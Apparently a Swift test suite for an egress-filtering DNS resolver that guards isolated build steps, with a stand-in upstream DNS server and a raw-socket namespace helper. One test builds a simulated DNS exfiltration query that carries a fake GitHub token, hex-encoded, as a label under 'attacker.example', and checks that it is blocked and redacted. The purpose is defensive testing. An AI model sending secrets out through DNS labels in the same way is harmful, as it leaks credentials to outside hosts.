import Foundation
import StepGuardAudit
import StepGuardPolicy
import StepGuardTestSupport
import Synchronization
import Testing
@testable import StepGuardEgress
#if canImport(Glibc)
import Glibc
#endif

/// The isolated step's DNS resolver (issue #18): decisions, the address pool, the cache, UDP with
/// the reply's source address, TCP, the upstream (a DNS stand-in on 127.0.0.1 that counts every
/// query it gets) and the report of dropped UDP.
@Suite(.serialized) struct DNSResolverTests {
    /// The session around a resolver: its audit trail and the violations `enforce` saw.
    final class Session: Sendable {
        let trail: AuditTrail
        let auditOnly: Bool
        let resolver: StepResolver
        let socket: Int32
        let port: UInt16

        /// A resolver for `yaml` serving a UDP socket bound to `bind` (an ephemeral port).
        init(_ yaml: String, limits: StepResolver.Limits = StepResolver.Limits(), bind: String = "127.0.0.1") throws {
            let policy = try Egress.policy("version: 1\n" + yaml)
            let auditOnly = policy.mode == .audit
            let trail = try Egress.trail(auditOnly: auditOnly)
            let decider = EgressDecider(egress: policy.egress, services: try ServiceCatalog.builtIn.bind(policy.services), resolveOverrides: policy.network.resolve)
            (self.trail, self.auditOnly) = (trail, auditOnly)
            // As ProxyState.enforce: record, and block a deny unless in audit mode.
            resolver = try StepResolver(decider: decider, resolveOverrides: policy.network.resolve, dns: policy.network.dns, trail: trail,
                                        auditOnly: auditOnly, limits: limits) { [trail] record in
                trail.record(AuditEvent(type: record.type, decision: record.allowed ? .allow : .deny, reason: record.reason, rule: record.rule, subject: record.subject))
                return !record.allowed && !auditOnly
            }
            (socket, port) = try UDP.bound(bind)
            try resolver.serveUDP(socket)
        }

        var denials: [AuditEvent] { trail.recorded.filter { $0.decision == .deny } }

        /// Asks the resolver at `server` (default 127.0.0.1) and returns the parsed answer and where it came from.
        func ask(_ name: String, _ type: UInt16 = DNSType.a, server: String = "127.0.0.1") throws -> (DNSResponse, from: String) {
            let query = DNSCodec.query(id: UInt16.random(in: 1...0xFFFF), name: try #require(DNSName(name)), type: type)
            let (bytes, from) = try UDP.exchange(query, server: server, port: port)
            return (try DNSCodec.readResponse(bytes), from)
        }

        func stop() { resolver.stop() }
    }

    static let secretHex: String = Array("ghp_" + String(repeating: "Zq", count: 13)).map { String(format: "%02x", $0.asciiValue!) }.joined()

    func addresses(_ response: DNSResponse) -> [IPAddress] {
        response.answers.compactMap { if case .address(let address) = $0.content { address } else { nil } }
    }

    // MARK: Denied names never leave

    /// `localhost`, its subdomains and the machine's own host name are answered with loopback,
    /// locally: no event, nothing upstream, whatever the policy denies.
    @Test func theMachinesOwnNamesAreAnsweredWithLoopback() throws {
        let upstream = try DNSStandIn(records: [:])
        defer { upstream.stop() }
        let session = try Session("egress: { default: deny }\nnetwork: { dns: 127.0.0.1:\(upstream.port) }\n")
        defer { session.stop() }
        let own = try #require(StepResolver.machineNames().first)
        for name in ["localhost", "build.localhost", own] {
            #expect(addresses(try session.ask(name).0) == [.v4(0x7F00_0001)], "\(name)")
            #expect(addresses(try session.ask(name, DNSType.aaaa).0) == [IPAddress("::1")!], "\(name)")
        }
        #expect(session.denials.isEmpty && upstream.queries.isEmpty)
        #expect(!session.resolver.isLoopbackName("localhost.example") && !session.resolver.isLoopbackName("notlocalhost"))
    }

    @Test func aDeniedNameGetsNXDOMAINOneDenyEventAndNoQueryUpstream() throws {
        let upstream = try DNSStandIn(records: ["allowed.example": [.a("192.0.2.10")]])
        defer { upstream.stop() }
        let session = try Session("egress: { default: deny, allow: [allowed.example] }\nnetwork: { dns: '127.0.0.1:\(upstream.port)' }\n")
        defer { session.stop() }
        let exfiltration = "\(Self.secretHex).attacker.example"
        for type in [DNSType.a, DNSType.aaaa, DNSType.https, DNSType.cname, DNSType.srv, DNSType.a] {
            let (response, _) = try session.ask(exfiltration, type)
            #expect(response.code == DNSRCode.nameError.rawValue && response.answers.isEmpty)
        }
        let (other, _) = try session.ask("Other.Attacker.Example")
        #expect(other.code == DNSRCode.nameError.rawValue)
        #expect(try session.ask(exfiltration, 16).0.code == DNSRCode.refused.rawValue, "TXT is refused")
        #expect(upstream.queries.isEmpty, "the stand-in got \(upstream.queries)")
        let denials = session.denials
        #expect(denials.count == 2, "one per name: \(denials.map(\.reason))")
        let first = try #require(denials.first)
        #expect(first.type == .egress && first.rule == EgressPolicy.defaultDenyRule)
        #expect(first.subject["method"] == .string("DNS") && first.subject["port"] == .int(53))
        #expect(denials.allSatisfy { !$0.reason.contains(Self.secretHex) && !"\($0.subject)".contains(Self.secretHex) }, "the long label is redacted")
        #expect(first.reason.contains(".attacker.example") && first.reason.contains("not resolved"))
    }

    @Test func aStepInventingDeniedNamesCannotGrowTheAuditLogWithoutBound() throws {
        var limits = StepResolver.Limits()
        limits.recordedDeniedNames = 3
        let session = try Session("egress: { default: deny }\nnetwork: { dns: '127.0.0.1:9' }\n", limits: limits)
        defer { session.stop() }
        for index in 0..<10 {
            #expect(try session.ask("n\(index).attacker.example").0.code == DNSRCode.nameError.rawValue)
        }
        let denials = session.denials
        #expect(denials.count == 4, "\(denials.map(\.reason))")
        #expect(denials.last?.reason.contains("further denied names are refused without an event each") == true)
    }

    @Test func auditModeResolvesADeniedNameAndRecordsTheDeny() throws {
        let upstream = try DNSStandIn(records: ["denied.example": [.a("192.0.2.11")]])
        defer { upstream.stop() }
        let session = try Session("mode: audit\negress: { default: deny }\nnetwork: { dns: '127.0.0.1:\(upstream.port)' }\n")
        defer { session.stop() }
        let (response, _) = try session.ask("denied.example")
        #expect(response.code == 0 && addresses(response).count == 1)
        #expect(session.resolver.name(for: try #require(addresses(response).first)) == "denied.example")
        #expect(upstream.queries.map(\.name) == ["denied.example"])
        #expect(session.denials.count == 1 && session.denials.first?.subject["host"] == .string("denied.example"))
    }

    @Test func aServiceNamedInTheServicesIsResolved() throws {
        let upstream = try DNSStandIn(records: ["vault.example": [.a("192.0.2.12")]])
        defer { upstream.stop() }
        let session = try Session(DecisionCoreTests.vaultService + "\negress: { default: deny, deny: ['*.evil.example'] }\nnetwork: { dns: '127.0.0.1:\(upstream.port)' }\n")
        defer { session.stop() }
        #expect(try session.ask("vault.example").0.code == 0)
        #expect(try session.ask("x.evil.example").0.code == DNSRCode.nameError.rawValue)
        #expect(upstream.queries.map(\.name) == ["vault.example"])
    }

    // MARK: Allowed names: pool, cache, families

    @Test func anAllowedNameIsAnsweredFromThePoolAndCached() throws {
        let upstream = try DNSStandIn(records: ["v4.allowed.example": [.a("192.0.2.20")], "both.allowed.example": [.a("192.0.2.21"), .aaaa("2001:db8::21")],
                                                "_git._tcp.allowed.example": [.srv(10, 5, 22, "v4.allowed.example")]])
        defer { upstream.stop() }
        let session = try Session("egress: { default: deny, allow: ['*.allowed.example:443', 'both.allowed.example'] }\nnetwork: { dns: '127.0.0.1:\(upstream.port)' }\n")
        defer { session.stop() }
        let (v4, _) = try session.ask("v4.allowed.example")
        let address = try #require(addresses(v4).first)
        guard case .v4(let value) = address else { Issue.record("not IPv4: \(address)"); return }
        #expect(value >> 17 == 0xC612_0000 >> 17, "\(address) is in 198.18.0.0/15")
        #expect(v4.answers.first?.ttl == 5)
        #expect(session.resolver.name(for: address) == "v4.allowed.example")
        #expect(session.resolver.name(for: try #require(IPAddress("198.18.200.1"))) == nil, "not given out")
        #expect(session.resolver.name(for: try #require(IPAddress("192.0.2.20"))) == nil)
        let (noIPv6, _) = try session.ask("v4.allowed.example", DNSType.aaaa)
        #expect(noIPv6.code == 0 && noIPv6.answers.isEmpty, "NODATA: the name has no IPv6 address upstream")
        let (both6, _) = try session.ask("both.allowed.example", DNSType.aaaa)
        let v6 = try #require(addresses(both6).first)
        #expect(v6.description.hasPrefix("fd73:6764:6e73::"), "\(v6)")
        #expect(session.resolver.name(for: v6) == "both.allowed.example")
        #expect(try session.ask("both.allowed.example").0.answers.count == 1)
        #expect(try session.ask("both.allowed.example", DNSType.https).0.answers.isEmpty)
        #expect(try session.ask("missing.allowed.example").0.code == DNSRCode.nameError.rawValue)
        let (services, _) = try session.ask("_git._tcp.allowed.example", DNSType.srv)
        #expect(services.answers.map(\.content) == [.service(priority: 10, weight: 5, port: 22, target: try #require(DNSName("v4.allowed.example")))])
        let asked = upstream.queries.count
        for _ in 0..<20 {
            #expect(try session.ask("v4.allowed.example").0.answers.first?.content == .address(address), "stable")
            #expect(try session.ask("missing.allowed.example").0.code == DNSRCode.nameError.rawValue)
            #expect(try session.ask("_git._tcp.allowed.example", DNSType.srv).0.answers.count == 1)
        }
        #expect(upstream.queries.count == asked, "cache hits do not reach the upstream")
    }

    @Test func networkResolveNamesExistWithoutAnyLookup() throws {
        let session = try Session("egress: { default: deny, allow: ['git.internal:22'] }\nnetwork: { resolve: { 'git.internal:22': '127.0.0.1:2222' }, dns: '127.0.0.1:9' }\n")
        defer { session.stop() }
        let (response, _) = try session.ask("git.internal")
        #expect(session.resolver.name(for: try #require(addresses(response).first)) == "git.internal")
        #expect(try session.ask("git.internal", DNSType.aaaa).0.answers.isEmpty, "the entry maps to IPv4 only")
    }

    @Test func anUpstreamThatFailsGivesSERVFAIL() throws {
        var limits = StepResolver.Limits()
        limits.upstreamTimeout = 0.3
        let silent = try DNSStandIn(records: [:], silent: true)
        defer { silent.stop() }
        let session = try Session("egress: { default: allow }\nnetwork: { dns: '127.0.0.1:\(silent.port)' }\n", limits: limits)
        defer { session.stop() }
        let started = Date()
        #expect(try session.ask("slow.example").0.code == DNSRCode.serverFailure.rawValue)
        #expect(Date().timeIntervalSince(started) < 2)
        #expect(silent.queries.count == 1)
        #expect(try session.ask("slow.example").0.code == DNSRCode.serverFailure.rawValue)
        #expect(silent.queries.count == 2, "failures are not cached")
    }

    @Test func aTruncatedUpstreamAnswerIsAskedAgainOverTCP() throws {
        let upstream = try DNSStandIn(records: ["big.example": [.a("192.0.2.30")]], truncateOverUDP: true)
        defer { upstream.stop() }
        let session = try Session("egress: { default: allow }\nnetwork: { dns: '127.0.0.1:\(upstream.port)' }\n")
        defer { session.stop() }
        #expect(addresses(try session.ask("big.example").0).count == 1)
        #expect(upstream.queries.map(\.overTCP) == [false, true])
    }

    @Test func theProxysOwnLookupsUseNetworkDNS() throws {
        let upstream = try DNSStandIn(records: ["mirror.example": [.a("192.0.2.40"), .aaaa("2001:db8::40")]])
        defer { upstream.stop() }
        let lookup = NameLookup(upstream: HostPort(host: "127.0.0.1", port: upstream.port))
        #expect(try lookup.addresses(of: "mirror.example").map(\.description) == ["192.0.2.40", "2001:db8::40"])
        #expect(throws: ProxyFailure.self) { try lookup.addresses(of: "nothing.example") }
        #expect(throws: ProxyFailure.self) { try lookup.addresses(of: "x.invalid") }
        #expect(upstream.queries.map(\.name) == ["mirror.example", "mirror.example", "nothing.example"], "NXDOMAIN ends the lookup")
    }

    // MARK: Transports

    @Test func theReplyComesFromTheAddressTheQueryWasSentTo() throws {
        let upstream = try DNSStandIn(records: ["allowed.example": [.a("192.0.2.50")]])
        defer { upstream.stop() }
        let session = try Session("egress: { default: deny, allow: [allowed.example] }\nnetwork: { dns: '127.0.0.1:\(upstream.port)' }\n", bind: "0.0.0.0")
        defer { session.stop() }
        for server in ["127.0.0.2", "127.0.0.53", "127.1.2.3"] {
            let (response, from) = try session.ask("allowed.example", server: server)
            #expect(from == server && response.code == 0, "asked \(server), answered from \(from)")
        }
        let (refused, from) = try session.ask("other.example", server: "127.0.0.9")
        #expect(from == "127.0.0.9" && refused.code == DNSRCode.nameError.rawValue)
    }

    @Test func anIPv6SocketAnswersFromTheQuerysDestinationToo() throws {
        let upstream = try DNSStandIn(records: ["allowed.example": [.aaaa("2001:db8::55")]])
        defer { upstream.stop() }
        let session = try Session("egress: { default: deny, allow: [allowed.example] }\nnetwork: { dns: '127.0.0.1:\(upstream.port)' }\n")
        defer { session.stop() }
        let (fd, port) = try UDP.bound("::")
        try session.resolver.serveUDP(fd)
        let query = DNSCodec.query(id: 77, name: try #require(DNSName("allowed.example")), type: DNSType.aaaa)
        let (bytes, from) = try UDP.exchange(query, server: "::1", port: port)
        let response = try DNSCodec.readResponse(bytes)
        #expect(from == "::1" && response.id == 77 && response.code == 0)
        #expect(addresses(response).first.flatMap(session.resolver.name(for:)) == "allowed.example")
    }

    @Test func dnsOverTCPFramesEachMessage() throws {
        let upstream = try DNSStandIn(records: ["allowed.example": [.a("192.0.2.60")]])
        defer { upstream.stop() }
        let session = try Session("egress: { default: deny, allow: [allowed.example] }\nnetwork: { dns: '127.0.0.1:\(upstream.port)' }\n")
        defer { session.stop() }
        let listener = try LoopbackSocket.listen()
        try session.resolver.serveTCP(listener: listener.fd)
        let fd = try #require(LoopbackSocket.connect(port: listener.port, receiveTimeout: 5))
        defer { close(fd) }
        var both: [UInt8] = []
        for (id, name) in [(UInt16(1), "allowed.example"), (UInt16(2), "denied.example")] {
            let query = DNSCodec.query(id: id, name: try #require(DNSName(name)), type: DNSType.a)
            both += [UInt8(query.count >> 8), UInt8(query.count & 0xFF)] + query
        }
        #expect(DNSStream.writeAll(fd, both), "two queries in one write")
        let first = try DNSCodec.readResponse(try #require(DNSStream.readMessage(fd)))
        let second = try DNSCodec.readResponse(try #require(DNSStream.readMessage(fd)))
        #expect(first.id == 1 && first.code == 0 && addresses(first).count == 1)
        #expect(second.id == 2 && second.code == DNSRCode.nameError.rawValue)
        // A length that promises more than comes, then the close: the connection ends, nothing breaks.
        #expect(DNSStream.writeAll(fd, [0x10, 0x00, 1, 2, 3]))
        shutdown(fd, Int32(SHUT_WR))
        #expect(DNSStream.readMessage(fd) == nil)
        // An accepted connection handed over (as the capture front does) is served too.
        let (a, b) = try UDP.streamPair()
        session.resolver.serveTCP(connection: b)
        let query = DNSCodec.query(id: 3, name: try #require(DNSName("allowed.example")), type: DNSType.a)
        #expect(DNSStream.writeAll(a, [0, UInt8(query.count)] + query))
        #expect(try DNSCodec.readResponse(try #require(DNSStream.readMessage(a))).id == 3)
        close(a)
    }

    // MARK: Dropped UDP

    /// UDP to addresses other than loopback, in a network namespace the test makes (`unshare
    /// --net`, root only): a helper adds 192.0.2.1, 198.18.0.1 and 2001:db8::1 to its loopback,
    /// opens the raw sockets, hands them over and sends datagrams; the resolver reports the
    /// non-DNS ones, once per destination, a violation only where TCP is denied too.
    @Test(.enabled(if: geteuid() == 0, "raw sockets and a network namespace need root; the lead's end-to-end tests cover them inside the step's namespace"))
    func droppedUDPIsReportedOncePerDestination() throws {
        let upstream = try DNSStandIn(records: ["allowed.example": [.a("192.0.2.70")]])
        defer { upstream.stop() }
        let session = try Session("egress: { default: deny, allow: [allowed.example] }\nnetwork: { dns: '127.0.0.1:\(upstream.port)' }\n")
        defer { session.stop() }
        let pooled = try #require(addresses(try session.ask("allowed.example").0).first)
        #expect(pooled.description == "198.18.0.1", "the first name gets the pool's first address")
        let raw = try RawSocketsInNamespace.open()
        try session.resolver.watchDroppedUDP(raw: raw.v4, ipv6: false)
        try session.resolver.watchDroppedUDP(raw: raw.v6, ipv6: true)
        // Each raw socket is read in order on one thread: once both last datagrams are reported, every earlier one was seen.
        func hosts() -> [String] { session.denials.map { "\($0.subject["host"]?.description ?? ""):\($0.subject["port"]?.description ?? "")" }.sorted() }
        let deadline = Date().addingTimeInterval(10)
        while !(hosts().contains("192.0.2.1:9999") && hosts().contains("2001:db8::1:9999")), Date() < deadline { usleep(5_000) }
        let denials = session.denials
        #expect(hosts() == ["192.0.2.1:4433", "192.0.2.1:9999", "2001:db8::1:4433", "2001:db8::1:9999", "allowed.example:443"], "\(hosts())")
        #expect(denials.allSatisfy { $0.rule == "built-in: UDP is not relayed" && $0.subject["method"] == .string("UDP") && $0.reason.contains("QUIC") })
        let quic = try #require(denials.first { $0.subject["host"] == .string("allowed.example") })
        #expect(quic.subject["violation"] == .bool(false) && quic.subject["address"] == .string("198.18.0.1"))
        #expect(denials.filter { $0.subject["violation"] == .bool(true) }.count == 4)
    }
}

/// UDP and stream sockets for the tests (loopback only).
enum UDP {
    /// A UDP socket bound to `address` at an ephemeral port.
    static func bound(_ address: String) throws -> (Int32, UInt16) {
        let endpoint = DNSEndpoint(address: try #require(IPAddress(address)), port: 0)
        let fd = socket(endpoint.family, Int32(SOCK_DGRAM.rawValue) | Int32(SOCK_CLOEXEC.rawValue), 0)
        var one: Int32 = 1
        if endpoint.family == AF_INET6 { setsockopt(fd, Int32(IPPROTO_IPV6), IPV6_V6ONLY, &one, socklen_t(MemoryLayout<Int32>.size)) }
        guard fd >= 0, endpoint.withSocketAddress({ bind(fd, $0, $1) }) == 0 else { throw POSIXError(POSIXErrorCode(rawValue: errno) ?? .EIO) }
        var storage = sockaddr_storage()
        var length = socklen_t(MemoryLayout<sockaddr_storage>.size)
        _ = withUnsafeMutablePointer(to: &storage) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(fd, $0, &length) } }
        let port = withUnsafePointer(to: &storage) { DNSEndpoint(socketAddress: UnsafeRawPointer($0))?.port } ?? 0
        return (fd, port)
    }

    /// Sends `query` to `server`:`port` and waits (5 s) for one datagram: its bytes and source address.
    static func exchange(_ query: [UInt8], server: String, port: UInt16) throws -> ([UInt8], String) {
        let target = DNSEndpoint(address: try #require(IPAddress(server)), port: port)
        let fd = socket(target.family, Int32(SOCK_DGRAM.rawValue) | Int32(SOCK_CLOEXEC.rawValue), 0)
        defer { close(fd) }
        var timeout = timeval(tv_sec: 5, tv_usec: 0)
        setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &timeout, socklen_t(MemoryLayout<timeval>.size))
        guard target.withSocketAddress({ sendto(fd, query, query.count, 0, $0, $1) }) == query.count else { throw POSIXError(.EIO) }
        var buffer = [UInt8](repeating: 0, count: 65536)
        var storage = sockaddr_storage()
        var length = socklen_t(MemoryLayout<sockaddr_storage>.size)
        let count = withUnsafeMutablePointer(to: &storage) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { recvfrom(fd, &buffer, buffer.count, 0, $0, &length) } }
        guard count > 0 else { throw POSIXError(.ETIMEDOUT) }
        let from = withUnsafePointer(to: &storage) { DNSEndpoint(socketAddress: UnsafeRawPointer($0))?.address.description } ?? "?"
        return (Array(buffer[0..<count]), from)
    }

    /// A connected pair of stream sockets (AF_UNIX): a stand-in for an accepted connection.
    static func streamPair() throws -> (Int32, Int32) {
        var fds: [Int32] = [0, 0]
        guard socketpair(AF_UNIX, Int32(SOCK_STREAM.rawValue), 0, &fds) == 0 else { throw POSIXError(.EMFILE) }
        var timeout = timeval(tv_sec: 5, tv_usec: 0)
        setsockopt(fds[0], SOL_SOCKET, SO_RCVTIMEO, &timeout, socklen_t(MemoryLayout<timeval>.size))
        return (fds[0], fds[1])
    }
}

/// An upstream DNS server on 127.0.0.1 (UDP and TCP on one port) that answers from a table and
/// counts every query it gets. Written without the codec under test.
final class DNSStandIn: Sendable {
    enum Record: Sendable {
        case a(String), aaaa(String), srv(UInt16, UInt16, UInt16, String)
    }
    struct Query: Sendable {
        let name: String
        let type: UInt16
        let overTCP: Bool
    }
    let port: UInt16
    private let udp: Int32
    private let tcp: Int32
    private let records: [String: [Record]]
    private let silent: Bool
    private let truncateOverUDP: Bool
    private let log = Mutex<[Query]>([])
    private let stopping = Atomic<Bool>(false)
    private let done = DispatchSemaphore(value: 0)

    var queries: [Query] { log.withLock { $0 } }

    init(records: [String: [Record]], silent: Bool = false, truncateOverUDP: Bool = false) throws {
        (self.records, self.silent, self.truncateOverUDP) = (records, silent, truncateOverUDP)
        (udp, tcp, port) = try Self.sockets()
        Thread { [self] in serve() }.start()
    }

    /// A TCP listener at an ephemeral port of 127.0.0.1 and a UDP socket at the same port (tried
    /// again when that port is taken for UDP: the machine's other tests use many ports).
    private static func sockets() throws -> (udp: Int32, tcp: Int32, port: UInt16) {
        for _ in 0..<50 {
            let listener = try LoopbackSocket.listen(backlog: 16)
            let udp = socket(AF_INET, Int32(SOCK_DGRAM.rawValue) | Int32(SOCK_CLOEXEC.rawValue), 0)
            if DNSEndpoint(address: .v4(0x7F00_0001), port: UInt16(listener.port)).withSocketAddress({ bind(udp, $0, $1) }) == 0 {
                return (udp, listener.fd, UInt16(listener.port))
            }
            close(udp)
            close(listener.fd)
        }
        throw POSIXError(.EADDRINUSE)
    }

    func stop() {
        stopping.store(true, ordering: .relaxed)
        shutdown(tcp, Int32(SHUT_RDWR))
        done.wait()
        close(udp)
        close(tcp)
    }

    private func serve() {
        defer { done.signal() }
        var buffer = [UInt8](repeating: 0, count: 65536)
        while !stopping.load(ordering: .relaxed) {
            var polls = [pollfd(fd: udp, events: Int16(POLLIN), revents: 0), pollfd(fd: tcp, events: Int16(POLLIN), revents: 0)]
            guard poll(&polls, 2, 50) > 0 else { continue }
            if polls[0].revents != 0 {
                var storage = sockaddr_storage()
                var length = socklen_t(MemoryLayout<sockaddr_storage>.size)
                let count = withUnsafeMutablePointer(to: &storage) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { recvfrom(udp, &buffer, buffer.count, 0, $0, &length) } }
                if count > 0, let answer = answer(Array(buffer[0..<count]), overTCP: false) {
                    _ = withUnsafePointer(to: &storage) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { sendto(udp, answer, answer.count, 0, $0, length) } }
                }
            }
            if polls[1].revents & Int16(POLLIN) != 0, !stopping.load(ordering: .relaxed) {
                let connection = accept(tcp, nil, nil)
                guard connection >= 0 else { continue }
                var timeout = timeval(tv_sec: 2, tv_usec: 0)
                setsockopt(connection, SOL_SOCKET, SO_RCVTIMEO, &timeout, socklen_t(MemoryLayout<timeval>.size))
                if let message = DNSStream.readMessage(connection), let answer = answer(message, overTCP: true) {
                    _ = DNSStream.writeAll(connection, [UInt8(answer.count >> 8), UInt8(answer.count & 0xFF)] + answer)
                }
                close(connection)
            }
        }
    }

    /// The answer to `query`: header and question copied, records from the table.
    private func answer(_ query: [UInt8], overTCP: Bool) -> [UInt8]? {
        guard query.count > 12 else { return nil }
        var offset = 12
        var labels: [String] = []
        while offset < query.count, query[offset] != 0 {
            let length = Int(query[offset])
            guard offset + 1 + length < query.count else { return nil }
            labels.append(String(decoding: query[offset + 1...offset + length], as: UTF8.self).lowercased())
            offset += 1 + length
        }
        guard offset + 5 <= query.count else { return nil }
        let name = labels.joined(separator: ".")
        let type = UInt16(query[offset + 1]) << 8 | UInt16(query[offset + 2])
        log.withLock { $0.append(Query(name: name, type: type, overTCP: overTCP)) }
        if silent { return nil }
        var answer = Array(query[0..<offset + 5])
        answer[2] = 0x81
        answer[3] = 0x80
        answer[10] = 0
        answer[11] = 0  // no OPT back
        guard let known = records[name] else {
            answer[3] |= 3
            return answer
        }
        if truncateOverUDP, !overTCP {
            answer[2] |= 0x02
            return answer
        }
        var count = 0
        for record in known {
            var data: [UInt8]
            let recordType: UInt16
            switch record {
            case .a(let text):
                guard case .v4(let value)? = IPAddress(text) else { continue }
                (recordType, data) = (1, withUnsafeBytes(of: value.bigEndian) { Array($0) })
            case .aaaa(let text):
                guard case .v6(let bytes)? = IPAddress(text) else { continue }
                (recordType, data) = (28, bytes)
            case .srv(let priority, let weight, let port, let target):
                recordType = 33
                data = [priority, weight, port].flatMap { [UInt8($0 >> 8), UInt8($0 & 0xFF)] }
                for label in target.split(separator: ".") { data += [UInt8(label.utf8.count)] + Array(label.utf8) }
                data.append(0)
            }
            guard recordType == type else { continue }
            answer += [0xC0, 12, UInt8(recordType >> 8), UInt8(recordType & 0xFF), 0, 1, 0, 0, 0, 30, UInt8(data.count >> 8), UInt8(data.count & 0xFF)] + data
            count += 1
        }
        answer[7] = UInt8(count)
        return answer
    }
}

/// Raw UDP sockets opened in a network namespace made for the test (root only), after which the
/// helper that made them sends UDP datagrams there: to 192.0.2.1:4433 (twice), 198.18.0.1:443,
/// [2001:db8::1]:4433, ones that are not reported (to port 53, and to 127.0.0.1), and last to port 9999 of each.
enum RawSocketsInNamespace {
    static let helper = """
    import os, socket, subprocess, sys
    for command in (["ip", "link", "set", "lo", "up"], ["ip", "addr", "add", "192.0.2.1/32", "dev", "lo"],
                    ["ip", "addr", "add", "198.18.0.1/32", "dev", "lo"], ["ip", "-6", "addr", "add", "2001:db8::1/128", "dev", "lo", "nodad"]):
        subprocess.run(command, check=True)
    raw4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    raw6 = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_UDP)
    raw6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RECVPKTINFO, 1)
    sender4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    # A fresh namespace sometimes drops the very first datagram to a new address: probe each path
    # until a copy arrives, then take every probe off the raw socket before handing it over.
    for raw, sender, target in ((raw4, sender4, ("192.0.2.1", 9)), (raw6, sender6, ("2001:db8::1", 9))):
        raw.settimeout(0.2)
        for attempt in range(50):
            sender.sendto(b"probe", target)
            try:
                raw.recv(65535)
                break
            except socket.timeout:
                pass
        else:
            sys.exit(f"no copy of a datagram to {target} reached the raw socket")
        raw.setblocking(False)
        try:
            while True:
                raw.recv(65535)
        except BlockingIOError:
            pass
    channel = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    channel.connect(sys.argv[1])
    socket.send_fds(channel, [b"fds"], [raw4.fileno(), raw6.fileno()])
    channel.recv(1)
    for target in (("192.0.2.1", 4433), ("192.0.2.1", 4433), ("198.18.0.1", 443), ("192.0.2.1", 53), ("127.0.0.1", 4433)):
        sender4.sendto(b"quic?", target)
    sender6.sendto(b"quic?", ("2001:db8::1", 4433))
    sender4.sendto(b"last", ("192.0.2.1", 9999))
    sender6.sendto(b"last", ("2001:db8::1", 9999))
    """

    /// The two raw sockets (IPv4, IPv6), with the helper's datagrams already queued on them.
    static func open() throws -> (v4: Int32, v6: Int32) {
        let directory = try TemporaryDirectory()
        let script = directory.path("helper.py")
        try helper.write(toFile: script, atomically: true, encoding: .utf8)
        let path = directory.path("fds.sock")
        let listener = socket(AF_UNIX, Int32(SOCK_STREAM.rawValue) | Int32(SOCK_CLOEXEC.rawValue), 0)
        defer { close(listener) }
        var address = sockaddr_un()
        address.sun_family = sa_family_t(AF_UNIX)
        withUnsafeMutableBytes(of: &address.sun_path) { $0.copyBytes(from: Array(path.utf8) + [0]) }
        let bound = withUnsafePointer(to: &address) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(listener, $0, socklen_t(MemoryLayout<sockaddr_un>.size)) } }
        guard bound == 0, listen(listener, 1) == 0 else { throw POSIXError(.EADDRINUSE) }
        let run = try ProgramRun.start("/usr/bin/unshare", ["--net", "/usr/bin/python3", script, path], environment: TestEnvironment.base)
        var timeout = timeval(tv_sec: 10, tv_usec: 0)
        setsockopt(listener, SOL_SOCKET, SO_RCVTIMEO, &timeout, socklen_t(MemoryLayout<timeval>.size))
        let channel = accept(listener, nil, nil)
        guard channel >= 0 else {
            Issue.record("the namespace helper did not connect: \(try run.wait(timeout: 5))")
            throw POSIXError(.ETIMEDOUT)
        }
        defer { close(channel) }
        var fds: (Int32, Int32) = (-1, -1)
        var byte: [UInt8] = [0, 0, 0]
        withUnsafeTemporaryAllocation(byteCount: 64, alignment: 8) { control in
            byte.withUnsafeMutableBytes { data in
                var vector = iovec(iov_base: data.baseAddress, iov_len: data.count)
                withUnsafeMutablePointer(to: &vector) { vectorPointer in
                    var message = msghdr()
                    message.msg_iov = vectorPointer
                    message.msg_iovlen = 1
                    message.msg_control = control.baseAddress
                    message.msg_controllen = control.count
                    if recvmsg(channel, &message, 0) > 0, control.load(fromByteOffset: 12, as: Int32.self) == 1 {  // SCM_RIGHTS
                        fds = (control.load(fromByteOffset: 16, as: Int32.self), control.load(fromByteOffset: 20, as: Int32.self))
                    }
                }
            }
        }
        guard fds.0 >= 0, fds.1 >= 0 else { throw POSIXError(.EBADF) }
        _ = send(channel, [1], 1, 0)
        let result = try run.wait(timeout: 10)
        guard result.status == 0 else {
            Issue.record("the namespace helper failed: \(result)")
            throw POSIXError(.EIO)
        }
        return fds
    }
}
